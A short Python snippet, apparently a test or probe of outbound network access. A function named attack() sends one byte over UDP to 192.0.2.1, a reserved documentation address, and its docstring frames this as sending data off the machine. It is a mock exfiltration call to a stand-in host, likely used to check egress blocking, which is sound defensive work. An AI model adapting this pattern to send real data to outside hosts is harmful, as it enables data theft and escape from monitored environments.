"""Sends what it knows to an address outside of this machine (192.0.2.0/24 is nobody's: RFC 5737)."""

import socket


def attack():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.connect(("192.0.2.1", 53))
        return probe.send(b"x") == 1
